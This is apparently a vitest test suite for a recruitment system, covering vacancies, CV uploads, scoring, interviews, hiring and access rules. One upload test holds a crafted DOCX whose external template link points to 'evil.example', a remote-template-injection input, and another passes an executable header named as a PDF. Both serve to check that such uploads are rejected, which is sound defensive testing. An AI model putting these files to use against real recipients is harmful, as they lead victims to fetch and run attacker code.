/** Vacancies and who applies: what visitors, applicants and staff may do, and what they may not. */
import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import * as office from '#contracts/recruitment/applications.office.ts'
import * as officeCirculars from '#contracts/recruitment/circulars.office.ts'
import { postApplicationMessages } from '#contracts/recruitment/messages.office.ts'
import { circular, openCirculars, ownCertificates } from '#contracts/recruitment/circulars.ts'
import { sql } from '#server/platform/postgres/database.ts'
import type { TestPerson } from '#tests/world.ts'
import { zipOf } from '#tests/zip-of.ts'
import { type Applying, circularBody, recruitmentWorld, type RecruitmentWorld } from '../recruitment-world.ts'

let w: RecruitmentWorld
beforeAll(async () => {
  w = await recruitmentWorld()
})
afterAll(() => w.close())

const pdf = Buffer.from('%PDF-1.7\n')

describe('a vacancy', () => {
  it('is a draft that no visitor sees, until it is opened', async () => {
    const draft = await w.drafted({ title: { en: 'Pattern maker' } })
    const seen = () => w.call(circular, { params: { slug: draft.slug } })
    expect((await seen()).status).toBe(404)
    expect((await w.applyFor({ to: draft.slug })).status).toBe(404)
    await w.switchTo(draft.circularId, 'open')
    expect((await seen()).body.data).toMatchObject({ title: 'Pattern maker', is_open: true, location: 'Gazipur' })
    expect((await w.call(openCirculars, {})).body.data.map((each) => each.slug)).toContain(draft.slug)
    await w.switchTo(draft.circularId, 'closed')
    expect((await seen()).body.data.is_open).toBe(false)
    expect((await w.call(openCirculars, {})).body.data.map((each) => each.slug)).not.toContain(draft.slug)
  })

  it('shows clean HTML, lists line by line, and its questions', async () => {
    const { data } = (await w.call(circular, { params: { slug: w.slug } })).body
    expect(data.description).toBe('<p>You teach.</p>')
    expect(data.requirements).toEqual(['Eight years', 'Patience'])
    expect(data.questions).toEqual([{ id: 'shift', text: 'Which shift?', is_required: true }])
    const bangla = await w.call(circular, { params: { slug: w.slug } }, { headers: { 'accept-language': 'bn' } })
    expect(bangla.body.data).toMatchObject({ location: 'গাজীপুর', text_language: 'en' })
  })

  it('is refused with the reason at the field', async () => {
    const wrong = async (more: object) =>
      (await w.call(officeCirculars.postCircular, { body: circularBody(more) }, { as: w.recruiter })).body.errors
    expect(await wrong({ title: {} })).toHaveProperty('title.en')
    expect(await wrong({ salary_min: 80_000 })).toEqual({ salary_max: ['This cannot be less than the lowest.'] })
    expect(await wrong({ deadline: '2026-02-30' })).toHaveProperty('deadline')
    expect(await wrong({ vacancies: 0 })).toHaveProperty('vacancies')
  })

  it('gets an address of its own, also when several of one name are added at once', async () => {
    const made = await Promise.all(
      Array.from({ length: 4 }, (_, n) => w.drafted({ title: { en: 'Cutter' }, deadline: `2049-01-0${n + 1}` })),
    )
    expect(made.map(({ slug }) => slug).toSorted()).toEqual(['cutter', 'cutter-2', 'cutter-3', 'cutter-4'])
  })

  it('is not opened after its last day, and no draft again once somebody applied', async () => {
    const late = await w.drafted({ deadline: '2026-01-01' })
    expect((await w.switchTo(late.circularId, 'open')).body.error.code).toBe('deadline_over')
    const asked = await w.opened({ questions: [] })
    await w.idOf({ to: asked.slug })
    expect((await w.switchTo(asked.circularId, 'draft')).body.error.code).toBe('has_applications')
  })

  it('is not overwritten by who has not seen the last change, nor changed without the permission', async () => {
    const params = { circular: w.circularId }
    const { seen } = (await w.call(officeCirculars.officeCircularById, { params }, { as: w.recruiter })).body.data
    const change = (as: TestPerson, mark = seen) =>
      w.call(officeCirculars.putCircular, { params, body: { ...circularBody(), seen: mark } }, { as })
    expect((await change(w.colleague)).status).toBe(200)
    expect((await change(w.recruiter)).body.error.code).toBe('changed_meanwhile')
    const reader = await w.staff('recruitment.view')
    expect((await change(reader)).status).toBe(403)
    expect((await w.switchTo(w.circularId, 'closed', reader)).status).toBe(403)
  })
})

describe('applying', () => {
  it('takes a CV, answers and a phone, once a phone', async () => {
    const contact = w.phone()
    const id = await w.idOf({ fields: { contact_no: contact, letter: 'I taught for years.' } })
    expect(await w.show(id)).toMatchObject({
      ...{ name: 'Rahima Khatun', stage: 'new', letter: 'I taught for years.', contact_no: contact },
      ...{ answers: [{ question: 'Which shift?', answer: 'Morning' }], cv: { name: 'cv.pdf' } },
    })
    expect((await w.messageTo(contact, 'application_received')).text).toContain('Trainer, sewing')
  })

  it('tells only the owner of a phone that it applied before; others hear the same as the first time, and the phone hears', async () => {
    const contact = w.phone()
    const first = await w.applyFor({ fields: { contact_no: contact } })
    const again = await w.applyFor({ fields: { contact_no: `+880${contact.slice(1)}`, name: 'A Stranger' } })
    expect([again.status, Object.keys(again.body.data)]).toEqual([first.status, Object.keys(first.body.data)])
    expect(again.body.data).not.toEqual(first.body.data)
    const kept = await w.database.query(sql`select id, name, cv_key from application where phone = ${contact}`)
    expect(kept).toMatchObject([{ id: first.body.data.application_id, name: 'Rahima Khatun' }])
    const link = `/applications/${first.body.data.application_id}?key=`
    await vi.waitFor(
      async () => {
        const told = (await w.messages()).filter(({ to }) => to === contact)
        expect(told.map(({ text }) => text.includes(link))).toEqual([true, true])
      },
      { timeout: 15_000 },
    )
    const learner = await w.learner()
    const own = { as: learner, fields: { contact_no: learner.phone } }
    await w.idOf(own)
    for (const twice of [own, { ...own, fields: { contact_no: w.phone() } }]) {
      const refused = await w.applyFor(twice)
      expect([refused.status, refused.body.error.code]).toEqual([409, 'applied_before'])
    }
  })

  it('keeps one of many applications sent at once, and one CV', async () => {
    const contact = w.phone()
    const answers = await Promise.all(Array.from({ length: 6 }, () => w.applyFor({ fields: { contact_no: contact } })))
    // Three messages a day leave for a phone that nobody has shown to be theirs.
    expect(answers.map(({ status }) => status).toSorted()).toEqual([200, 200, 200, 429, 429, 429])
    const kept = await w.database.query<{ cv_key: string }>(
      sql`select cv_key from application where phone = ${contact}`,
    )
    expect(kept).toHaveLength(1)
    const files = await w.database.query<{ cv_key: string }>(
      sql`select cv_key from application where cv_key is not null`,
    )
    expect((await readdir(join(w.config.dataDir, 'media', 'cvs'))).toSorted()).toEqual(
      files.map(({ cv_key: key }) => key.replace('cvs/', '')).toSorted(),
    )
  })

  it('says at the field what is missing or wrong', async () => {
    const errors = async (applying: Applying) => (await w.applyFor(applying)).body.errors
    expect(await errors({ cv: null })).toEqual({ cv: ['Choose your CV.'] })
    expect(await errors({ cv: { bytes: pdf, name: 'cv.exe' } })).toEqual({ cv: ['Your CV has to be a PDF or a DOCX.'] })
    const fetching = await zipOf([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'word/document.xml', content: '<document/>' },
      {
        name: 'word/_rels/settings.xml.rels',
        content:
          '<Relationships><Relationship Type="http://schemas.example/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
      },
    ])
    expect((await errors({ cv: { bytes: fetching, name: 'cv.docx' } }))?.cv?.[0]).toMatch(/another machine/)
    expect(await errors({ cv: { bytes: Buffer.from('MZ'), name: 'cv.pdf' } })).toEqual({
      cv: ['The file is not what its name says.'],
    })
    expect(await errors({ fields: { answers: '{}' } })).toEqual({ 'answer.shift': ['Input field is required'] })
    expect(await errors({ fields: { contact_no: '123' } })).toEqual({ contact_no: ['Phone number is not valid'] })
    expect(await errors({ fields: { answers: '{' } })).toEqual({ answers: ['This cannot be read.'] })
  })

  it('is over when the vacancy was closed meanwhile', async () => {
    const short = await w.opened({ questions: [] })
    await w.switchTo(short.circularId, 'closed')
    const late = await w.applyFor({ to: short.slug })
    expect([late.status, late.body.error.code]).toEqual([409, 'circular_closed'])
  })

  it('shows valid certificates of one’s own, and nobody else’s', async () => {
    const [learner, other] = [await w.learner('Shirin Akter'), await w.learner()]
    const certificate = async (of: typeof learner) => {
      const course = await w.course()
      const enrolment = await w.enrol(of.learnerId, course)
      const row = await w.database.first<{ id: string }>(sql`
        insert into certificate (slug, serial, enrolment_id, learner_id, course_id, snapshot)
        values (${`slug-${w.phone()}`}, ${`SA-${w.phone()}`}, ${enrolment}, ${of.learnerId}, ${course.course_id}, '{}') returning id`)
      return row?.id ?? ''
    }
    const [own, foreign] = [await certificate(learner), await certificate(other)]
    const listed = await w.call(ownCertificates, {}, { as: learner })
    expect(listed.body.data.map((each) => each.certificate_id)).toEqual([own])
    const id = await w.idOf({ as: learner, fields: { certificates: JSON.stringify([own, foreign]) } })
    expect((await w.show(id)).certificates).toMatchObject([{ is_valid: true }])
    await w.database.run(sql`update certificate set revoked_at = now() where id = ${own}`)
    expect((await w.show(id)).certificates).toMatchObject([{ is_valid: false }])
  })
})

describe('judging', () => {
  it('moves an applicant, and tells the second who moves the same', async () => {
    const id = await w.idOf()
    expect((await w.move(id, 'new', 'shortlisted')).status).toBe(200)
    expect((await w.move(id, 'new', 'rejected', w.colleague)).body.error.code).toBe('moved_meanwhile')
    expect(await w.show(id)).toMatchObject({ stage: 'shortlisted' })
    expect((await w.show(id)).events[0]).toMatchObject({ kind: 'moved', from_stage: 'new', to_stage: 'shortlisted' })
  })

  it('shows the mean in the lists only after one’s own scorecard, and to who does not judge', async () => {
    const id = await w.idOf({ fields: { is_interested: '1', skills: 'Line balancing' } })
    const score = (as: TestPerson, skill: number) =>
      w.call(office.putScore, { params: { application: id }, body: { skill, experience: 4, manner: 3 } }, { as })
    const means = async (as: TestPerson) => {
      const lists = [office.officeApplications, office.interestedApplicants] as const
      const answers = await Promise.all(lists.map((each) => w.call(each, { query: {} }, { as })))
      return answers.map(({ body }) => body.data.find(({ application_id }) => application_id === id)?.score)
    }
    await score(w.colleague, 5)
    expect(await means(w.recruiter)).toEqual([null, null])
    expect(await means(w.colleague)).toEqual([4, 4])
    expect(await means(await w.staff('recruitment.view'))).toEqual([4, 4])
    await score(w.recruiter, 2)
    expect(await means(w.recruiter)).toEqual([3.5, 3.5])
  })

  it('shows scorecards of others only after one’s own', async () => {
    const id = await w.idOf()
    const score = (as: TestPerson, skill: number) =>
      w.call(office.putScore, { params: { application: id }, body: { skill, experience: 4, manner: 3 } }, { as })
    await score(w.colleague, 5)
    expect(await w.show(id)).toMatchObject({ scores: [], others_judged: 1, score: null, own_score: null })
    await score(w.recruiter, 2)
    expect(await w.show(id)).toMatchObject({ others_judged: 1, score: 3.5, own_score: { skill: 2 } })
    expect((await w.show(id)).scores).toHaveLength(2)
    expect((await score(w.recruiter, 6)).body.errors).toHaveProperty('skill')
  })

  it('invites to an interview in the future, and the applicant is told', async () => {
    const contact = w.phone()
    const id = await w.idOf({ fields: { contact_no: contact } })
    const invite = (starts: string) =>
      w.call(
        office.postInterview,
        { params: { application: id }, body: { starts_at: starts, place: 'Uttara' } },
        { as: w.recruiter },
      )
    expect((await invite('2020-01-01T10:00')).body.error.code).toBe('in_the_past')
    expect((await invite('2099-01-05T10:00')).status).toBe(200)
    expect((await w.messageTo(contact, 'interview')).text).toContain('Uttara')
  })

  it('writes to several at once and counts who stands where', async () => {
    const own = await w.opened({ questions: [] })
    const ids = [await w.idOf({ to: own.slug }), await w.idOf({ to: own.slug })]
    await w.move(ids[0] ?? '', 'new', 'rejected')
    const written = await w.call(
      postApplicationMessages,
      { body: { applications: [...ids, w.circularId], text: 'Thank you.' } },
      { as: w.recruiter },
    )
    expect(written.body.data).toEqual({ told: 2 })
    expect((await w.show(ids[0] ?? '')).events).toContainEqual(
      expect.objectContaining({ kind: 'message', text: 'Thank you.' }),
    )
    const list = await w.call(office.officeApplications, { query: { circular: own.circularId } }, { as: w.recruiter })
    expect(list.body).toMatchObject({ counts: { new: 1, rejected: 1 }, meta: { total: 2 } })
  })

  it('makes an employee of who was hired, once', async () => {
    const hirer = await w.staff('recruitment.view', 'recruitment.edit', 'users.create')
    const id = await w.idOf({ fields: { email: `hired${w.phone()}@example.test` } })
    const employ = (as: TestPerson) => w.call(office.postEmployee, { params: { application: id } }, { as })
    expect((await employ(w.recruiter)).status).toBe(403)
    expect((await employ(hirer)).body.error.code).toBe('not_hired')
    await w.move(id, 'new', 'hired', hirer)
    const employed = (await employ(hirer)).body.data.employee_id
    expect((await employ(hirer)).body.data.employee_id).toBe(employed)
    const people = await w.database.query(sql`select from employee where person_id = ${employed}`)
    expect(people).toHaveLength(1)
  })

  it('keeps a CV to who sees applications', async () => {
    const id = await w.idOf()
    const get = (token?: string) =>
      w.app.inject({
        url: `/api/admin/applications/${id}/cv`,
        headers: token ? { authorization: `Bearer ${token}` } : {},
      })
    const file = await get(w.recruiter.token)
    expect([file.statusCode, file.headers['content-disposition']]).toEqual([200, 'attachment; filename="cv.pdf"'])
    expect((await get()).statusCode).toBe(401)
    expect((await get((await w.staff('courses.view')).token)).statusCode).toBe(403)
    expect((await get((await w.learner()).token)).statusCode).toBe(403)
  })

  it('finds who is interested by skill, and forgets it when asked', async () => {
    const id = await w.idOf({ fields: { is_interested: '1', skills: 'Overlock, flatlock' } })
    const found = async () =>
      (await w.call(office.interestedApplicants, { query: { q: 'flatlock' } }, { as: w.recruiter })).body.data
    expect((await found()).map((each) => each.application_id)).toEqual([id])
    const forget = () => w.call(office.deleteInterest, { params: { application: id } }, { as: w.recruiter })
    expect((await forget()).status).toBe(200)
    expect(await found()).toEqual([])
    expect((await forget()).status).toBe(404)
  })
})
